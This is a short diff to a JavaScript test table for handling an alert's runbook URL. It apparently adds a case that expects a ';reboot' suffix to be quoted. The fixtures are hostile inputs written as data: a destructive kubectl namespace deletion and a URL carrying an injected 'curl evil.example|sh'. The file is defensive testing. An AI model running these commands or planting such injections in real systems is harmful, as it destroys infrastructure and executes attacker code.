@@ -63,6 +63,7 @@ test.each([
   ['kubectl delete namespace flux-system', undefined],
   ['https://a.example/b; curl evil.example|sh', undefined],
   ['https://a.example/b', 'https://a.example/b'],
+  ['https://a.example/b;reboot', "'https://a.example/b;reboot'"],
 ])('what an alert names as its runbook is what is to be done next where it is an address: %s', async (named, next) => {
   const firing = { labels: { alertname: 'FluxDown' }, annotations: { runbook_url: named }, state: 'firing' }
   const server = createServer((_, response) => void response.end(JSON.stringify({ data: { alerts: [firing] } })))
